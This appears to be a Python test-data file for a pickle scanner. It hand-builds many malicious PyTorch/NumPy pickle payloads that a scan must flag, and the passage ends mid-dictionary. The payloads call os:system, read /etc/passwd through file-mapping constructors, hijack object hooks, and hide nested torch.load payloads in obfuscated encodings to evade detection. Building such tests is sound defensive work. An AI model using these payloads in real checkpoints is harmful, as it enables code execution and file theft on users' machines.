"""Attacks on the verdict of a scan, by hand: each uses a class or function in a way that nobody has judged, and was once called clean,
or is near to one that was. A scan must call none of them clean. `payloads.py` composes others by a seed."""

import io
import struct
import tarfile

from payloads import ARGUMENT, ARRAY, FUNCTION, LINEAR, LOADER, NONE, OBJECT, PROTO, call, listed, many, mapped, name, new, persistent, short

PRINT = name("builtins:print")


def slots(**entries):
    return many(NONE, mapped(**entries))


def instance(cls, *args):
    return new(name(cls), *args)


def built(body, state):
    return body + state + b"b"


def ordered(**state):
    return built(instance("collections:OrderedDict"), mapped(**state))


DICT_CONFIG = "omegaconf.dictconfig:DictConfig"
INTERFACE = mapped(data=b"(" + b"K\x08" + b"\x88" + b"t", shape=b"K\1\x85", typestr=short("<f8"), version=b"K\3")
MASKED = call(name("numpy.ma.core:_mareconstruct"), name("numpy.ma:MaskedArray"), name("numpy:ndarray"), b"K\1\x85", short("b"))
FLOAT = call(name("numpy:dtype"), short("f8"), b"\x89", b"\x88")
MODULE = persistent(short("module"), name("torch.utils.data.dataloader:DataLoader"), NONE, NONE)
FACTORY = built(instance("collections:defaultdict"), slots(default_factory=MODULE))
COOKIE = "http.cookies:SimpleCookie"

ATTACKS = {
    "dictconfig_any_state": built(instance(DICT_CONFIG), mapped(_metadata=LOADER, _content=LOADER)),
    "dictconfig_function_state": built(instance(DICT_CONFIG), mapped(__setstate__=FUNCTION)) + b"}b",
    "dictconfig_tuple_state": built(instance(DICT_CONFIG), slots(_metadata=LOADER)),
    "dictconfig_items": instance(DICT_CONFIG) + short("a") + b"K\1s",
    "dictconfig_appended": instance("omegaconf.listconfig:ListConfig") + b"K\1a",
    "dictconfig_key": b"}" + instance(DICT_CONFIG) + b"K\1s",
    "dictconfig_metadata_lazy": built(instance(DICT_CONFIG), mapped(_metadata=built(instance("argparse:Namespace"), mapped(key_type=NONE)))),
    "dictconfig_metadata_config": built(instance(DICT_CONFIG), mapped(_metadata=built(instance(DICT_CONFIG), mapped(_content=mapped(key_type=short("${oc.env:HOME}")))))),
    "dictconfig_metadata_node": built(instance(DICT_CONFIG), mapped(_metadata=instance("omegaconf.nodes:AnyNode"))),
    "dictconfig_newobj_args": instance(DICT_CONFIG, mapped(a=short("${oc.env:HOME}"))),
    "metadata_newobj_args": instance("omegaconf.base:ContainerMetadata", LOADER),
    "dictconfig_reconstructor": call(name("copyreg:_reconstructor"), name(DICT_CONFIG), name("builtins:dict"), mapped(a=LOADER)),
    "dictconfig_read": call(name("builtins:list"), instance(DICT_CONFIG)),
    "dictconfig_in_getattr": call(name("builtins:getattr"), instance(DICT_CONFIG), short("anything")),
    "dictconfig_str": call(name("builtins:str"), instance(DICT_CONFIG)),
    "joblib_wrapper_items": instance("joblib.numpy_pickle:NumpyArrayWrapper") + short("a") + b"K\1s",
    # These give addresses to C.
    "buffer_of_objects": instance("numpy:ndarray", b"K\1\x85", call(name("numpy:dtype"), short("O")), b"C\x08AAAAAAAA"),
    "address_of_a_tensor": name("torch:Tensor") + b")" + mapped(cdata=b"J\1\2\3\4") + b"\x92",
    "address_of_a_tensor_by_a_call": call(name("copyreg:__newobj_ex__"), name("torch:Tensor"), many(), mapped(cdata=b"J\1\2\3\4")),
    "bytes_as_state_of_a_generator": built(call(name("torch:Generator"), short("cpu")), b"C\x20" + b"A" * 32),
    "list_as_state_of_a_generator": built(call(name("torch:Generator"), short("cpu")), listed(b"K\1", b"K\2", b"K\3")),
    "storage_allocator": name("torch:UntypedStorage") + b")" + mapped(allocator=b"J\1\2\3\4") + b"\x92",
    "dictconfig_key_type": built(instance(DICT_CONFIG), mapped(_metadata=built(instance("omegaconf.base:ContainerMetadata"), mapped(key_type=short("1+1"))))),
    "computed_key_type": built(instance("omegaconf.base:ContainerMetadata"), mapped(key_type=call(name("builtins:str"), short("1+1")))),
    "rebuild_by_dict_config": call(name("torch._tensor:_rebuild_from_type_v2"), name(DICT_CONFIG), name("torch.nn.parameter:Parameter"), many(LOADER), b"}"),
    "torch_class_called": call(name("__torch__.net:Net"), short("x")),
    "torch_class_new": instance("__torch__.net:Net"),
    "torch_class_state": built(instance("__torch__:Net"), mapped(a=b"K\1")),
    "torch_class_fn": call(name("__torch__.os:system"), short("x")),
    "computed_module": call(name("builtins:str"), short("os")) + short("getcwd") + b"\x93",
    "computed_name": short("os") + call(name("builtins:str"), short("getcwd")) + b"\x93)R",
    "computed_both": call(name("_codecs:encode"), short("os"), short("latin1")) + short("system") + b"\x93",
    "array_interface_in_float_tensor": call(name("torch:FloatTensor"), ordered(__array_interface__=INTERFACE)),
    "array_interface_in_dtype": call(name("numpy:dtype"), ordered(__array_interface__=INTERFACE)),
    "array_interface_fill_value": built(MASKED, many(b"K\1", b"K\1\x85", FLOAT, b"\x89", b"C\x080" + b"0"*7, b"C\1\0", ordered(__array_interface__=INTERFACE))),
    "array_interface_slots": built(MASKED, many(b"K\1", b"K\1\x85", FLOAT, b"\x89", b"C\x080" + b"0"*7, b"C\1\0", built(instance("collections:OrderedDict"), slots(__array_interface__=INTERFACE)))),
    "array_interface_array": call(name("array:array"), short("d"), ordered(__array_interface__=INTERFACE)),
    "cuda_array_interface": call(name("torch:FloatTensor"), ordered(__cuda_array_interface__=INTERFACE)),
    "namespace_array_interface": call(name("torch:FloatTensor"), built(instance("types:SimpleNamespace"), mapped(__array_interface__=INTERFACE))),
    "size_of_interface": call(name("torch:Size"), ordered(__array_interface__=INTERFACE)),
    "persistent_factory": call(name("numpy:dtype"), FACTORY),
    "persistent_in_optimizer_state": built(instance("torch.optim.adam:Adam"), mapped(_patch_step_function=MODULE, param_groups=b"]", state=b"}", defaults=b"}")),
    "persistent_module_patch": built(instance("torch.optim.sgd:SGD"), mapped(_patch_step_function=persistent(short("module"), name("torch.nn.modules.linear:Linear"), NONE, NONE))),
    "persistent_attr_keys": call(name("collections:OrderedDict"), built(instance("collections:OrderedDict"), mapped(keys=MODULE))),
    "overwritten_entry": call(name("numpy:dtype"), b"}\x94" + short("names") + LOADER + b"s") + b"0h\0" + short("names") + b"K\1s",
    "nested_text_annotation": call(name("operator:getitem"), name("typing:Callable"), many(listed(short("__import__('os')")), name("builtins:int"))),
    "computed_text_annotation": call(name("operator:getitem"), name("typing:Optional"), call(name("builtins:str"), short("1+1"))),
    "encoded_text_annotation": call(name("operator:getitem"), name("typing:Optional"), call(name("_codecs:encode"), short("1+1"), short("latin1"))),
    "tuple_text_annotation": call(name("operator:getitem"), name("typing:Tuple"), many(many(short("1+1")))),
    "annotated_loader": call(name("operator:getitem"), name("typing:Annotated"), many(name("builtins:int"), LOADER)),
    "literal_loader": call(name("operator:getitem"), name("typing:Literal"), LOADER),
    "reduce_or_of_annotation_text": call(name("functools:reduce"), name("operator:or_"), many(call(name("operator:getitem"), name("typing:Optional"), name("builtins:int")), short("1+1"))),
    "reduce_or_of_annotation_str": call(name("functools:reduce"), name("operator:or_"), many(call(name("operator:getitem"), name("typing:Optional"), name("builtins:int")), call(name("builtins:str"), short("1+1")))),
    "reduce_or_typevar": call(name("functools:reduce"), name("operator:or_"), many(name("typing:Any"), short("1+1"))),
    "getitem_of_enum": call(name("operator:getitem"), name("http:HTTPStatus"), short("OK")),
    "cookie_value_encode": built(instance(COOKIE), mapped(value_encode=PRINT)) + short("a") + short("b") + b"s",
    "cookie_value_encode_slots": built(instance(COOKIE), slots(value_encode=PRINT)) + short("a") + short("b") + b"s",
    "cookie_set": built(instance(COOKIE), mapped(_BaseCookie__set=PRINT)) + short("a") + short("b") + b"s",
    "morsel_isReservedKey": built(instance("http.cookies:Morsel"), mapped(isReservedKey=PRINT, key=NONE, value=NONE, coded_value=NONE)) + short("comment") + short("b") + b"s",
    "random_setstate": built(instance("random:Random"), slots(setstate=PRINT)) + b"K\1b",
    "pydecimal": call(name("_pydecimal:Decimal"), short("1.5")),
    "pydatetime": call(name("_pydatetime:date"), b"C\4\7\xe4\1\1"),
    "pyio_bytesio": built(instance("_pyio:BytesIO"), many(b"C\1a", b"K\0", NONE)),
    "pyio_close": built(instance("_pyio:BytesIO"), mapped(flush=PRINT)),
    "sre_compile_compile": call(name("sre_compile:_compile"), listed(), listed(), b"K\0"),
    "pyio_iobase": built(instance("_pyio:IOBase"), mapped(close=PRINT)),
    "int_of_counter": call(name("builtins:int"), instance("collections:Counter")),
    "counter_of_loader_items": call(name("collections:Counter"), b"]" + LOADER + b"a"),
    "slice_of_range_loader": call(name("builtins:range"), call(name("builtins:slice"), LOADER, LOADER, LOADER)),
    "list_of_slice": call(name("builtins:list"), call(name("builtins:slice"), LOADER, NONE)),
    "chain_setstate_loader": built(call(name("itertools:chain")), b"(" + LOADER + b"t"),
    "set_of_defaultdict": call(name("builtins:set"), FACTORY),
    "partial_state_then_read": call(name("builtins:list"), call(name("functools:partial"), FUNCTION)),
    "newobj_ex_kwargs": name("collections:OrderedDict") + b")" + mapped(a=LOADER) + b"\x92",
    "from_type_as_subclass": call(name("torch._tensor:_rebuild_from_type_v2"), name("torch._utils:_rebuild_parameter"), name("torch.nn.parameter:Parameter"), many(LOADER), b"}"),
    "from_type_partial": call(name("torch._tensor:_rebuild_from_type_v2"), call(name("functools:partial"), name("torch._utils:_rebuild_parameter")), name("torch.nn.parameter:Parameter"), many(b"K\1"), b"}"),
    "hooks_of_rebuild": call(name("torch._utils:_rebuild_tensor_v2"), persistent(short("storage"), name("torch:FloatStorage"), short("0"), short("cpu"), b"K\1"), b"K\0", b"K\1\x85", b"K\1\x85", b"\x89", LOADER),
    "metadata_of_rebuild": call(name("torch._utils:_rebuild_tensor_v2"), persistent(short("storage"), name("torch:FloatStorage"), short("0"), short("cpu"), b"K\1"), b"K\0", b"K\1\x85", b"K\1\x85", b"\x89", b"}", LOADER),
    "location_of_pid": persistent(short("storage"), name("torch:FloatStorage"), short("0"), LOADER, b"K\1"),
    "ufunc_text_module": call(name("numpy.core:_ufunc_reconstruct"), short("os"), short("getcwd")),
    "ufunc_computed": call(name("numpy.core:_ufunc_reconstruct"), call(name("builtins:str"), short("os")), short("getcwd")),
    "exception_of_loader": call(name("builtins:ValueError"), LOADER),
    "unicode_error": call(name("builtins:UnicodeDecodeError"), short("a"), b"C\1a", b"K\0", b"K\1", LOADER),
    "lazy_getattr": call(name("builtins:getattr"), LINEAR, short("weight")),
    "simple_namespace_build": built(built(instance("types:SimpleNamespace"), mapped(a=FUNCTION)), mapped(__setstate__=FUNCTION)) + b"}b",
    "tensor_state_loader": built(instance("torch:Tensor"), many(LOADER, b"K\0", b"K\1\x85", b"K\1\x85")),
    "ns_then_class": built(instance("argparse:Namespace"), mapped(__class__=name("torch.fx.graph:Graph"))),
}

PARTIAL = call(name("functools:partial"), PRINT, short("ran"))
# Its `__eq__` calls methods of what is in the attributes.
HEADER = built(instance("email.header:Header"), mapped(_chunks=listed(many(built(instance("argparse:Namespace"), mapped(encode=PARTIAL)), NONE)), _charset=NONE))
OBJECTS = built(ARRAY, many(b"K\1", b"K\1\x85", OBJECT, b"\x89", listed(HEADER)))
STORAGE = persistent(short("storage"), name("torch:FloatStorage"), short("0"), short("cpu"), b"K\1")
MAGIC = b"\x80\x02\x8a\x0a\x6c\xfc\x9c\x46\xf9\x20\x6a\xa8\x50\x19."
# A legacy checkpoint whose root runs a program, and the bytes of it.
LEGACY = MAGIC + b"\x80\x02M\xe9\x03.\x80\x02}." + PROTO + call(name("os:system"), ARGUMENT) + b".\x80\x02]."
LOAD = name("torch.storage:_load_from_bytes")


def bytes_of(data):
    return b"B" + struct.pack("<I", len(data)) + data


def text_of(data):
    return b"X" + struct.pack("<I", len(data.encode())) + data.encode()


def numbers(data):
    return listed(*(b"K" + bytes([byte]) for byte in data))


def rebuilt(*more):
    return call(name("torch._utils:_rebuild_tensor_v2"), STORAGE, b"K\0", b"K\1\x85", b"K\1\x85", b"\x89", *more)


def from_type(function, args, state=b"}", cls="torch.nn.parameter:Parameter"):
    return call(name("torch._tensor:_rebuild_from_type_v2"), name(function), name(cls), args, state)


SHAPE = b"K\1\x85"
TENSOR_ARGS = many(STORAGE, b"K\0", SHAPE, SHAPE, b"\x89", b"}")
UBYTES = many(b"K\1", b"M" + struct.pack("<H", len(LEGACY)) + b"\x85", call(name("numpy:dtype"), short("u1")), b"\x89", bytes_of(LEGACY))

# A module's hook looks for names in these, `in` compares with everything in a list, and a comparison calls what attributes hold.
SEARCHED = {
    "list": listed(HEADER), "tuple": many(HEADER), "set": b"\x8f(" + HEADER + b"\x90", "frozenset": b"(" + HEADER + b"\x91", "array": OBJECTS, "loader": LOADER,
    "called_list": call(name("builtins:list")) + HEADER + b"a", "new_list": instance("builtins:list") + HEADER + b"a", "deque": call(name("collections:deque")) + HEADER + b"a",
    "nested_tuple": many(many(HEADER)), "size": instance("torch:Size", many(HEADER)), "namespace": instance("argparse:Namespace"), "persistent": MODULE,
}
ATTACKS |= {f"{cls}_{attribute}_{kind}": built(instance(f"torch.nn.modules.{module}"), mapped(**{attribute: value}))
            for kind, value in SEARCHED.items() if kind != "persistent"
            for cls, module, attribute in (("conv", "conv:Conv2d", "_parameters"), ("softmax", "activation:Softmax", "_modules"), ("encoder", "transformer:TransformerEncoderLayer", "_buffers"))}
ATTACKS |= {f"mesh_names_{kind}": built(instance("torch.distributed.device_mesh:DeviceMesh"), mapped(_dim_group_names=value)) for kind, value in SEARCHED.items()
            if kind not in ("persistent", "namespace", "size")}

# `__hash__` of these reads attributes.
ATTACKS |= {f"key_{cls}_{attribute}": b"}" + built(instance(f"ipaddress:{cls}"), mapped(**{attribute: value})) + b"K\1s" for cls in ("IPv4Network", "IPv4Interface", "IPv6Interface")
            for attribute, value in (("network", LOADER), ("network_address", HEADER), ("_ip", LOADER))}
ATTACKS |= {f"key_called_{cls}": b"}" + built(call(name(f"ipaddress:{cls}"), short("::" if "6" in cls else "1.2.3.4")), mapped(network_address=LOADER)) + b"K\1s"
            for cls in ("IPv4Network", "IPv6Network", "IPv4Interface")}
ATTACKS |= {f"key_path_{cls}": b"}" + built(call(name(f"pathlib:{cls}"), short("a")), slots(_parts=LOADER, _drv=LOADER, _root=LOADER)) + b"K\1s" for cls in ("PurePath", "PosixPath")}
ATTACKS["key_mesh"] = b"}" + built(instance("torch.distributed.device_mesh:DeviceMesh"), mapped(_layout=HEADER)) + b"K\1s"
ATTACKS["key_of_header"] = b"}" + HEADER + b"K\1s"

# `torch.load` compares the first object with a number; `__ne__` of some classes is `not self.__eq__(other)`.
ATTACKS |= {
    "root_header": HEADER,
    "root_array": OBJECTS,
    "root_charset": built(instance("email.charset:Charset"), mapped(input_charset=built(instance("argparse:Namespace"), mapped(lower=PARTIAL)))),
    "root_torch_version": built(instance("torch.torch_version:TorchVersion", short("1.0")), mapped(_convert_to_version=PARTIAL)),
    "root_entry_point": built(instance("importlib.metadata:EntryPoint", short("a"), short("b"), short("c")), mapped(_key=PARTIAL)),
}
ATTACKS |= {f"{method}_of_{cls.rpartition(':')[2]}": built(instance(cls), mapped(**{method: value})) for method, value in (("__eq__", PARTIAL), ("__ne__", PRINT), ("__call__", LOADER))
            for cls in ("numpy:poly1d", "numpy.polynomial:Polynomial", "torch.distributions.transforms:AffineTransform", "torch.distributions:SigmoidTransform")}

# Bytes for a nested `torch.load`, in every form that it reads.
ATTACKS |= {f"load_{kind}": call(LOAD, value) for kind, value in {
    "bytes": bytes_of(LEGACY), "bytearray": b"\x96" + struct.pack("<Q", len(LEGACY)) + LEGACY, "called_bytearray": call(name("builtins:bytearray"), bytes_of(LEGACY)),
    "latin1": call(name("_codecs:encode"), text_of(LEGACY.decode("latin1")), short("latin1")), "iso8859": call(name("_codecs:encode"), text_of(LEGACY.decode("latin1")), short("iso-8859-1")),
    "cp437": call(name("_codecs:encode"), text_of(LEGACY.decode("cp437")), short("cp437")), "numbers": call(name("builtins:bytes"), numbers(LEGACY)),
    "copied": call(name("builtins:bytes"), bytes_of(LEGACY)), "encoded": call(name("builtins:bytes"), text_of(LEGACY.decode("latin1")), short("latin1")),
    "array": call(name("array:array"), short("B"), bytes_of(LEGACY)), "made_array": call(name("array:_array_reconstructor"), name("array:array"), short("B"), b"K\0", bytes_of(LEGACY)),
    "numpy_buffer": call(name("numpy.core.numeric:_frombuffer"), bytes_of(LEGACY), call(name("numpy:dtype"), short("u1")), b"M" + struct.pack("<H", len(LEGACY)) + b"\x85", short("C")),
    "numpy_scalar": call(name("numpy.core.multiarray:scalar"), call(name("numpy:dtype"), short(f"S{len(LEGACY)}")), bytes_of(LEGACY)), "numpy_array": built(ARRAY, UBYTES),
    "appended": call(name("builtins:bytearray"), bytes_of(LEGACY[:5])) + b"(" + numbers(LEGACY[5:])[2:], "filled": call(name("builtins:bytearray")) + b"(" + numbers(LEGACY)[2:],
    "new_bytes": instance("builtins:bytes", bytes_of(LEGACY)), "numpy_bytes": call(name("numpy:bytes_"), bytes_of(LEGACY)), "string": b"S" + repr(LEGACY)[1:].encode() + b"\n",
    "reversed": call(name("builtins:bytes"), call(name("builtins:reversed"), numbers(LEGACY[::-1]))), "chained": call(name("builtins:bytes"), call(name("itertools:chain"), numbers(LEGACY))),
    "reconstructed": call(name("copyreg:_reconstructor"), name("builtins:bytes"), name("builtins:bytes"), bytes_of(LEGACY)),
    "decoded_and_encoded": call(name("_codecs:encode"), call(name("builtins:str"), bytes_of(LEGACY), short("latin1")), short("latin1")),
    "rotated": call(name("_codecs:encode"), short("bf.flfgrz"), short("rot13")), "stream": built(instance("io:BytesIO"), many(bytes_of(LEGACY), b"K\0", NONE)),
}.items()}
ATTACKS |= {
    "load_new": LOAD + many(bytes_of(LEGACY)) + b"\x81",
    "load_obj": b"(" + LOAD + bytes_of(LEGACY) + b"o",
    "load_partial": call(call(name("functools:partial"), LOAD, bytes_of(LEGACY))),
    "load_from_type": from_type("torch.storage:_load_from_bytes", many(call(name("array:array"), short("B"), bytes_of(LEGACY))), cls="torch:Tensor"),
    "load_alias": call(name("torch:storage._load_from_bytes"), call(name("array:array"), short("B"), bytes_of(LEGACY))),
    "load_factory": call(name("operator:getitem"), call(name("collections:defaultdict"), LOAD), bytes_of(LEGACY)),
    "load_by_persistent_id": persistent(short("module"), LOAD, NONE, NONE) + many(call(name("array:array"), short("B"), bytes_of(LEGACY))) + b"R",
}

# Storages and arrays of files.
FILES = ["torch:FloatStorage.from_file", "torch:FloatStorage._new_shared_filename_cpu", "torch:UntypedStorage.from_file", "torch:UntypedStorage._new_shared_filename_cpu",
         "torch.storage:UntypedStorage._new_shared_fd_cpu", "torch.storage:TypedStorage.from_file", "torch.cuda:FloatStorage.from_file", "torch._C:StorageBase.from_file", "torch:from_file",
         "torch:FloatStorage._set_from_file", "numpy:memmap", "numpy.core.memmap:memmap", "numpy:core.memmap.memmap", "numpy.lib.format:open_memmap", "numpy.lib.npyio:NpzFile", "numpy:DataSource",
         "numpy.lib._datasource:open", "numpy.rec:fromfile", "numpy.core.records:fromfile", "numpy:rec.array", "numpy.ma.mrecords:fromtextfile", "numpy.core.multiarray:fromfile",
         "numpy.ctypeslib:load_library", "torch.serialization:_open_file_like", "torch.serialization:torch.from_file", "tarfile:open", "zipfile:ZipFile", "shelve:open", "mmap:mmap"]
PATH = short("/etc/passwd")
ATTACKS |= {f"file_{way}_{file.replace(':', '.')}": body for file in FILES for way, body in (
    ("called", call(name(file), PATH, b"\x89", b"K\1")), ("new", instance(file, PATH, b"\x89", b"K\1")),
    ("from_type", from_type(file, many(PATH), cls="torch:Tensor")), ("partial", call(call(name("functools:partial"), name(file), PATH))))}
ATTACKS |= {f"array_of_{file}": call(name("numpy.core.multiarray:_reconstruct"), name(file), many(b"K\0"), b"C\1b") for file in ("numpy:memmap", "numpy.core.memmap:memmap", "torch:FloatStorage")}

# Rebuild functions with objects whose methods run, or with functions that nobody has reviewed.
ATTACKS |= {
    "rebuild_of_loader": call(name("torch._utils:_rebuild_tensor_v2"), LOADER, b"K\0", SHAPE, SHAPE, b"\x89", b"}"),
    "rebuild_of_module": call(name("torch._utils:_rebuild_tensor_v2"), LINEAR, b"K\0", SHAPE, SHAPE, b"\x89", b"}"),
    "rebuild_sizes": call(name("torch._utils:_rebuild_tensor_v2"), STORAGE, b"K\0", LOADER, LOADER, b"\x89", b"}"),
    "rebuild_metadata": rebuilt(b"}", mapped(conj=FUNCTION, neg=LOADER)),
    "rebuild_v3_dtype": call(name("torch._utils:_rebuild_tensor_v3"), STORAGE, b"K\0", SHAPE, SHAPE, b"\x89", b"}", LOADER),
    "parameter_of_loader": call(name("torch._utils:_rebuild_parameter"), LOADER, b"\x88", b"}"),
    "parameter_of_a_dict_that_detaches": call(name("torch._utils:_rebuild_parameter"), ordered(detach=PARTIAL), b"\x88", b"}"),
    "parameter_of_a_namespace_that_detaches": call(name("torch._utils:_rebuild_parameter"), built(instance("types:SimpleNamespace"), mapped(detach=PARTIAL)), b"\x88", b"}"),
    "parameter_class_of_a_dict_that_detaches": call(name("torch.nn.parameter:Parameter"), ordered(detach=PARTIAL)),
    "parameter_state_class": call(name("torch._utils:_rebuild_parameter_with_state"), rebuilt(b"}"), b"\x88", b"}", slots(__class__=name("torch.utils.data.dataloader:DataLoader"))),
    "parameter_state_hook": built(call(name("torch._utils:_rebuild_parameter_with_state"), rebuilt(b"}"), b"\x88", b"}", mapped(__setstate__=FUNCTION)), b"}"),
    "from_type_hook": built(from_type("torch._utils:_rebuild_tensor_v2", TENSOR_ARGS, mapped(__setstate__=FUNCTION)), b"}"),
    "from_type_class": from_type("torch._utils:_rebuild_tensor_v2", TENSOR_ARGS, slots(__class__=name("torch.fx.graph:Graph"))),
    "from_type_memmap": from_type("torch._utils:_rebuild_tensor_v2", TENSOR_ARGS, cls="numpy:memmap"),
    "from_type_loader_as_args": from_type("torch._utils:_rebuild_parameter", LOADER),
    "from_type_list_of_args": from_type("torch._utils:_rebuild_parameter", listed(LOADER)),
    "from_type_twice": from_type("torch._tensor:_rebuild_from_type_v2", many(name("numpy:load"), name("torch:Tensor"), many(ARGUMENT), b"}")),
    "from_type_getattr": from_type("builtins:getattr", many(name("torch:Tensor"), short("numpy"))),
    "from_type_list": from_type("builtins:list", many(LOADER)),
    "device_tensor_of_loader": call(name("torch._utils:_rebuild_device_tensor_from_numpy"), LOADER, name("torch:float32"), short("cpu"), b"\x89"),
    "device_tensor_of_a_dict": call(name("torch._utils:_rebuild_device_tensor_from_cpu_tensor"), ordered(to=PARTIAL), name("torch:float32"), short("cpu"), b"\x89"),
    "sparse_of_loader": call(name("torch._utils:_rebuild_sparse_tensor"), name("torch:sparse_coo"), LOADER),
    "sparse_of_loaders": call(name("torch._utils:_rebuild_sparse_tensor"), name("torch:sparse_coo"), many(LOADER, LOADER, LOADER)),
    "quantized_by_loader": call(name("torch._utils:_rebuild_qtensor"), STORAGE, b"K\0", SHAPE, SHAPE, many(name("torch:per_tensor_affine"), LOADER, LOADER), b"\x89", b"}"),
    "nested_of_loaders": call(name("torch._utils:_rebuild_nested_tensor"), LOADER, LOADER, LOADER, LOADER),
    "jagged_of_loaders": call(name("torch.nested._internal.nested_tensor:_rebuild_njt"), mapped(offsets=LOADER, values=LOADER)),
    "wrapper_of_function": call(name("torch._utils:_rebuild_wrapper_subclass"), FUNCTION, name("torch:float32"), SHAPE, SHAPE, b"K\0", name("torch:strided"), short("cpu"), b"\x89"),
    "wrapper_of_sizes": call(name("torch._utils:_rebuild_wrapper_subclass"), name("torch.distributed.tensor:DTensor"), name("torch:float32"), LOADER, SHAPE, b"K\0", name("torch:strided"), short("cpu"), b"\x89"),
    "meta_tensor_of_loader": call(name("torch._utils:_rebuild_meta_tensor_no_storage"), LOADER, SHAPE, SHAPE, b"\x89"),
}

# The import of these starts programs, whatever is named in them.
ATTACKS |= {f"imported_{module}_{attribute}": name(f"{module}:torch.{attribute}") for attribute in ("Size", "float32", "channels_last") for module in (
    "torch.utils.cpp_extension", "torch.hub", "torch.testing._internal.common_utils", "torch.distributed.run", "torch.utils.bottleneck.__main__", "torch.utils.collect_env")}

ATTACKS["imported_hipify"] = name("torch.utils.hipify.hipify_python:CurrentState")

# Arguments that are not a plain tuple, extensions, and registries.
TABLE = name("copyreg:_inverted_registry")
ATTACKS |= {
    "reduce_dict": name("builtins:list") + ordered(a=LOADER) + b"R",
    "reduce_size": name("builtins:list") + instance("torch:Size", LOADER) + b"R",
    "reduce_struct_time": name("builtins:str") + instance("time:struct_time", many(LOADER)) + b"R",
    "reduce_computed_tuple": name("builtins:list") + call(name("builtins:tuple"), listed(LOADER)) + b"R",
    "partial_of_computed_tuple": name("functools:partial") + call(name("builtins:tuple"), listed(name("os:system"))) + b"R",
    "new_computed_tuple": name("numpy:matrix") + call(name("builtins:tuple"), listed(short("1 2"))) + b"\x81",
    "new_chain": name("builtins:list") + call(name("itertools:chain"), listed(LOADER)) + b"\x81",
    "newobj_ex_methods": name("collections:OrderedDict") + b")" + mapped(keys=FUNCTION) + b"\x92",
    "newobj_ex_dict": name("builtins:list") + b")" + ordered(a=FUNCTION) + b"\x92",
    "newobj_ex_function": call(name("copyreg:__newobj_ex__"), name("torch.utils.data.dataloader:DataLoader"), many(listed()), b"}"),
    "extension": b"\x82\x01",
    "extension_called": b"\x83\x01\x00" + many(ARGUMENT) + b"R",
    "extension_new": b"\x84\x01\0\0\0)\x81",
    "extension_cache": name("copyreg:_extension_cache") + b"K\1" + name("os:path") + b"s0\x82\1" + many(ARGUMENT) + b"R",
    "extension_registry": TABLE + b"K\1" + many(short("os"), short("system")) + b"s0\x82\1" + many(ARGUMENT) + b"R",
    "dispatch_table": name("copyreg:dispatch_table") + name("builtins:dict") + FUNCTION + b"s",
    "copyreg_reduce": call(name("copyreg:_reduce_ex"), LOADER, b"K\0"),
    "copyreg_slots": call(name("copyreg:_slotnames"), name("torch.utils.data.dataloader:DataLoader")),
    "copyreg_pickle": call(name("copyreg:pickle"), name("builtins:dict"), FUNCTION, FUNCTION),
}

# Persistent ids that are not what they seem.
SHOWN = name("torch.utils.data.dataloader:DataLoader")
ATTACKS |= {f"persistent_{kind}": body for kind, body in {
    "computed_kind_called": persistent(call(name("builtins:str"), short("module")), SHOWN, NONE, NONE) + many(listed()) + b"R",
    "bytes_kind_called": persistent(b"C\x06module", SHOWN, NONE, NONE) + many(listed()) + b"R",
    "first_class_called": persistent(SHOWN, NONE, NONE) + many(listed()) + b"R",
    "class_and_class_called": persistent(SHOWN, PRINT, NONE) + many(listed()) + b"R",
    "storage_called": STORAGE + b")R",
    "text_called": b"P0\n)R",
    "nested_called": persistent(short("module"), persistent(short("module"), SHOWN, NONE, NONE), NONE, NONE) + many(listed()) + b"R",
    "function_called": persistent(short("module"), PRINT, NONE, NONE) + many(ARGUMENT) + b"R",
    "getattr_called": persistent(short("module"), name("builtins:getattr"), NONE, NONE) + many(name("os:path"), short("join")) + b"R",
    "number": LOADER + b"Q",
    "truth": persistent(name("torch.nn.modules.linear:Linear"), LOADER, NONE),
    "numel": persistent(short("storage"), name("torch:FloatStorage"), short("0"), short("cpu"), LOADER),
    "view": persistent(short("storage"), name("torch:FloatStorage"), short("0"), short("cpu"), b"K\1", many(short("k"), LOADER, b"K\1")),
    "location_methods": persistent(short("storage"), name("torch:FloatStorage"), short("0"), built(instance("argparse:Namespace"), mapped(startswith=PARTIAL)), b"K\1"),
    "class_methods": persistent(short("storage"), built(instance("argparse:Namespace"), mapped(dtype=PARTIAL)), short("0"), short("cpu"), b"K\1"),
}.items()}


def pickled(body):
    return PROTO + body + b"."


def tar_of(**changed):
    """A checkpoint of PyTorch 0.1 with other members."""
    number = lambda value: pickled(b"K" + bytes([value]))  # noqa: E731
    members = {"sys_info": pickled(b"}"), "pickle": pickled(b"}"), "tensors": number(0), "storages": number(0) + pickled(b"]")} | changed
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:", format=tarfile.PAX_FORMAT) as file:
        for member, data in members.items():
            info = tarfile.TarInfo(member)
            if isinstance(data, tuple):
                info.type, info.linkname = data
                file.addfile(info)
            else:
                info.size = len(data)
                file.addfile(info, io.BytesIO(data))
    return out.getvalue()


def legacy_of(protocol=b"M\xe9\x03", system=b"}", root=b"}", keys=b"]"):
    return MAGIC + b"".join(map(pickled, (protocol, system, root, keys)))


def one_storage(description):
    return pickled(b"K\1") + pickled(description) + struct.pack("<q", 0) + pickled(b"]")


# What `torch.load` compares, iterates over, or calls methods of, between the pickles of a file.
METHODS = built(instance("argparse:Namespace"), mapped(startswith=PARTIAL))
CHECKPOINTS = {
    "legacy_keys_loader": legacy_of(keys=LOADER), "legacy_keys_of_header": legacy_of(keys=listed(HEADER)), "legacy_keys_module": legacy_of(keys=LINEAR),
    "legacy_keys_dict": legacy_of(keys=b"}" + HEADER + b"K\1s"), "legacy_protocol_header": legacy_of(protocol=HEADER), "legacy_protocol_array": legacy_of(protocol=OBJECTS),
    "legacy_root_payload": legacy_of(root=call(name("os:system"), ARGUMENT)), "legacy_system_payload": legacy_of(system=call(name("os:system"), ARGUMENT)),
    "legacy_location": legacy_of(root=persistent(short("storage"), name("torch:FloatStorage"), short("0"), METHODS, b"K\1", NONE)),
    "legacy_class_called": legacy_of(root=persistent(b"C\x06module", SHOWN, NONE, NONE) + many(listed()) + b"R"),
    "tar_storage_count": tar_of(storages=pickled(LOADER) + pickled(b"]")), "tar_storage_loader": tar_of(storages=one_storage(LOADER)),
    "tar_storage_key": tar_of(storages=one_storage(many(HEADER, short("cpu"), name("torch:FloatStorage")))),
    "tar_storage_location": tar_of(storages=one_storage(many(short("0"), METHODS, name("torch:FloatStorage")))),
    "tar_storage_class": tar_of(storages=one_storage(many(short("0"), short("cpu"), METHODS))), "tar_views_loader": tar_of(storages=pickled(b"K\0") + pickled(LOADER)),
